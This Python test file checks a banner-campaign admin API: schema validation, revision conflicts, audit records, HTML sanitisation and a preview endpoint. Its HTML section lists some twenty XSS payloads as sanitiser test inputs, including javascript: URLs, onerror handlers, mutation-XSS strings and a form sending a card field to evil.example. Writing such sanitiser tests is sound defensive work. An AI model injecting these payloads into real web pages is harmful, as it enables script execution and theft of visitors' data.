"""Campaigns as documents: what is refused and where, revisions and audit, HTML made harmless, and the preview."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import jsonschema_rs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import schemas
from serving.banners.campaign import campaign
from serving.banners.creative import clean
from serving.config import BadDocument
from tests.serving.deployment import SECRET, Deployment

Validator = Callable[[str], jsonschema_rs.Draft202012Validator]
PATH = "/v1/admin/campaigns/"
STEW = {"name": "stew", "title": "Stews begin here"}
PANS: dict[str, Any] = {"explain": "Pans.", "slots": ["home_hero"], "creatives": [STEW]}


async def put(shop: Deployment, name: str, document: Any, **headers: str) -> Any:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return await shop._following(shop.call("PUT", PATH + name, document, key=SECRET, headers=named))


async def preview(shop: Deployment, status: int = 200, **ask: Any) -> Any:
    answer = await shop.call("POST", PATH + "preview", {"slot": "home_hero", **ask}, key=SECRET)
    assert answer.status_code == status, answer.text
    return answer.json()


def taken(document: Any) -> bool:
    try:
        campaign(document, document["name"])
    except BadDocument:
        return False
    return True


@pytest.mark.parametrize("valid", [True, False])
def test_code_and_schema_agree_on_the_examples(valid: bool) -> None:
    for title, document in schemas.examples("campaign", valid).items():
        assert taken(document) == valid, title


EXAMPLES = [one for valid in (True, False) for one in schemas.examples("campaign", valid).values()]
VALUES = st.one_of(
    st.sampled_from([None, True, -1, 0, 1, 2, 10, 11, 100, 1e300, "", "x", "a" * 200, "2026-01-31T12:00:00Z", "24:00"]),
    st.sampled_from(
        [[], {}, [[]], ["a"], ["a", "a"], {"days": 3}, {"impressions": 3, "hours": 1}, "https://x.example/"]
    ),
    st.sampled_from(["javascript:alert(1)", "https://", "//x", "<b>x</b>", "<script>x</script>", "clicks"]),
    st.text(max_size=5),
    st.integers(),
)


@st.composite
def hostile(draw: st.DrawFn) -> Any:
    """An example with up to three changes anywhere."""
    document = json.loads(json.dumps(draw(st.sampled_from(EXAMPLES))))
    for _ in range(draw(st.integers(1, 3))):
        holder: Any = document
        while True:
            keys = list(holder) if isinstance(holder, dict) else list(range(len(holder)))
            key = draw(st.sampled_from(keys)) if keys else None
            inner = None if key is None else holder[key]
            if not isinstance(inner, dict | list) or draw(st.booleans()):
                break
            holder = inner
        if key is not None and key != "name":
            holder[key] = json.loads(json.dumps(draw(VALUES)))
    return document


@given(document=hostile())
@settings(max_examples=200, deadline=None)
def test_what_the_code_takes_the_schema_allows(document: Any, validator: Validator) -> None:
    if taken(document):
        assert [error.message for error in validator("campaign").iter_errors(document)] == []


async def test_a_campaign_is_stored_told_and_on_record(shop: Deployment, validator: Validator) -> None:
    made = (await put(shop, "pans", PANS)).json()
    assert (made["origin"], made["changed_by"], made["warnings"]) == ("made", "key:secret", [])
    assert made["document"] == {"name": "pans", **PANS}
    validator("campaign").validate(made["document"])
    validator("config_record").validate(shop.broker.values("config")[-1])
    record = shop.broker.values("audit")[-1]
    validator("audit").validate(record)
    assert (record["action"], record["object"]) == ("campaign.edit", "campaign:pans")
    listed = (await shop.call("GET", PATH.rstrip("/"), key=SECRET)).json()
    assert [one["name"] for one in listed["campaigns"]] == ["pans"]


async def test_a_revision_that_no_longer_holds_changes_nothing(shop: Deployment) -> None:
    first = await put(shop, "pans", PANS, if_match="0")
    assert (await put(shop, "pans", {**PANS, "priority": 3}, if_match=first.headers["etag"])).status_code == 200
    assert (await put(shop, "pans", PANS, if_match=first.headers["etag"])).status_code == 412
    told = (await shop.call("GET", PATH + "pans", key=SECRET)).json()
    assert told["document"]["priority"] == 3


def creative(**more: Any) -> dict[str, Any]:
    return {"creatives": [{**STEW, **more}]}


WRONG: list[tuple[dict[str, Any], str, str]] = [
    ({"overlay": True}, "/overlay", "on purpose"),
    ({"type": "interstitial"}, "/type", "no pop-up"),
    (creative(display="pop-up"), "/creatives/0/display", "slot on the page"),
    (creative(popUp=True), "/creatives/0/popUp", "no pop-up"),
    ({"slots": []}, "/slots", "length >= 1"),
    ({"slots": ["a", "a"]}, "/slots", "once"),
    ({"slots": ["home_for_you"]}, "/slots/0", "placement"),
    ({"slots": ["search"]}, "/slots/0", "placement"),
    ({"creatives": [STEW, STEW]}, "/creatives/1/name", "already"),
    ({"creatives": [{"name": "a", "url": "https://shop.example/"}]}, "/creatives/0", "something to show"),
    ({"creatives": [{**STEW, "default": True}, {**STEW, "name": "b", "default": True}]}, "/creatives/1/default", "one"),
    (creative(url="javascript:alert(1)"), "/creatives/0/url", "https?"),
    (creative(image_url="//cdn.example/a.jpg"), "/creatives/0/image_url", "https?"),
    (creative(html="<script>alert(1)</script>"), "/creatives/0/html", "Nothing of it"),
    ({"goal": "fame"}, "/goal", "clicks, conversions"),
    ({"frequency": {"impressions": 11, "hours": 1}}, "/frequency/impressions", "<= 10"),
    ({"budget": {}}, "/budget", "Say how many"),
    ({"budget": {"clicks": 0}}, "/budget/clicks", ">= 1"),
    ({"rest_after": {"impressions": 1}}, "/rest_after", "days"),
    ({"audience": {"age": 3}}, "/audience/age", "visitor, customer, cart"),
    ({"when": {"weekdays": ["monday"]}}, "/when/weekdays/0", "mon, tue"),
    ({"when": {"segment": {"cart": True}}}, "/when/segment", "no field"),
]


@pytest.mark.parametrize(("change", "pointer", "says"), WRONG, ids=[one[1] for one in WRONG])
async def test_a_mistake_is_told_with_its_field_and_what_to_write(
    shop: Deployment, validator: Validator, change: dict[str, Any], pointer: str, says: str
) -> None:
    answer = await put(shop, "pans", {**PANS, **change})
    assert answer.status_code == 422, answer.text
    validator("problem").validate(answer.json())
    (error,) = answer.json()["errors"]
    assert error["pointer"] == pointer
    assert says in error["detail"]
    assert shop.broker.values("config") == []
    told = await preview(shop, 422, campaign={**PANS, **change})
    assert told["errors"][0]["pointer"] == f"/campaign{pointer}"


# HTML

XSS = [
    "<script>alert(1)</script><p>x</p>",
    '<img src=x onerror="alert(1)">x',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<svg><script>alert(1)</script></svg>x",
    '<svg onload="alert(1)">x',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="modal" id="top"><p>x</p></div>',
    '<form action="https://evil.example"><input name="card"><button>x</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x',
    '<b onmouseover=alert(1)>x</b><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="https://shop.example" target="_top" onclick="alert(1)">x</a><base href="https://evil.example">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x",
    '<object data="https://evil.example"></object><embed src="https://evil.example">x',
    '<details open ontoggle="alert(1)">x</details><video src=x onerror=alert(1)></video>',
]
TAGS = re.compile("a|b|br|em|h2|h3|h4|i|img|li|ol|p|s|small|span|strong|sub|sup|u|ul").fullmatch
ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "width", "height"}}


class Read(HTMLParser):
    """Asserts of HTML, as a browser would read it, that nothing in it acts, lies over the page or leads elsewhere."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert TAGS(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, ())
            assert name not in {"href", "src"} or (value or "").lower().startswith(("https://", "http://"))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def is_harmless(html: str) -> bool:
    reader = Read()
    reader.feed(html)
    reader.close()
    return True


@pytest.mark.parametrize("html", XSS)
def test_the_attacks_are_some(html: str) -> None:
    with pytest.raises(AssertionError):
        is_harmless(html)


@given(pieces=st.lists(st.one_of(st.sampled_from(XSS), st.text("<>\"'=/ &;#xabc\n\t", max_size=12)), max_size=6))
@settings(max_examples=300, deadline=None)
def test_nothing_that_acts_or_lies_over_the_page_is_left_of_html(pieces: list[str]) -> None:
    assert is_harmless(clean("".join(pieces)))
    for one in XSS:
        assert is_harmless(clean(one))


async def test_text_links_and_pictures_stay_and_what_went_is_a_warning(shop: Deployment) -> None:
    html = '<p class="big">Pans <b>now</b> <a href="https://shop.example/pans">look</a></p>'
    made = (await put(shop, "pans", {**PANS, "creatives": [{"name": "stew", "html": html}]})).json()
    left = '<p>Pans <b>now</b> <a href="https://shop.example/pans" rel="noopener noreferrer">look</a></p>'
    assert made["document"]["creatives"][0]["html"] == html
    assert left in made["warnings"][0]
    shown = (await preview(shop, campaign={**PANS, "creatives": [{"name": "stew", "html": html, "default": True}]}))[
        "with"
    ]
    assert shown["banner"]["html"] == left


async def test_a_default_creative_of_an_audience_is_a_warning(shop: Deployment) -> None:
    made = (await put(shop, "pans", {**PANS, **creative(default=True), "audience": {"cart": True}})).json()
    assert "shown to nobody" in made["warnings"][0]


# the preview


async def test_a_draft_is_tried_without_a_trace(shop: Deployment) -> None:
    await shop.view("v", "i0")
    before = {noun: len(shop.broker.values(noun)) for noun in ("decisions", "config", "events")}
    told = await preview(shop, visitor_id="v", campaign={**PANS, "enabled": False})
    assert (told["without"]["banner"], told["without"]["reason"]) == (None, "no_campaign")
    assert told["with"]["banner"]["promotion"] == {"promotion_id": "preview/stew", "creative_slot": "home_hero"}
    assert told["with"]["arms"] == [{"promotion_id": "preview/stew", "probability": 1.0}]
    assert {noun: len(shop.broker.values(noun)) for noun in before} == before


async def test_each_campaign_that_takes_no_part_says_why(shop: Deployment) -> None:
    await shop.view("v", "i0")
    await put(shop, "off", {**PANS, "enabled": False})
    await put(shop, "later", {**PANS, "when": {"from": "2030-01-01T00:00:00Z"}})
    await put(shop, "carts", {**PANS, "audience": {"cart": True}})
    await put(shop, "low", {**PANS, "priority": -1})
    told = await preview(shop, visitor_id="v", campaign=PANS)
    assert [one["promotion_id"] for one in told["without"]["arms"]] == ["low/stew"]
    assert [note.split()[0:3] for note in told["with"]["notes"]] == [
        ["`off`", "is", "switched"],
        ["`carts`", "is", "for"],
        ["`later`", "is", "not"],
        ["`low`", "gives", "way"],
    ]
    nobody = await preview(shop)
    assert nobody["with"] is None
    assert sum("of whom nothing may be known" in note for note in nobody["without"]["notes"]) == 2
    later = await preview(shop, visitor_id="v", at="2030-01-02T00:00:00Z")
    assert [one["promotion_id"] for one in later["without"]["arms"]] == ["later/stew"]


async def test_a_draft_of_another_slot_is_told(shop: Deployment) -> None:
    told = await preview(shop, campaign={**PANS, "slots": ["elsewhere"]})
    assert told["warnings"] == ["The draft is not for the slot `home_hero`."]
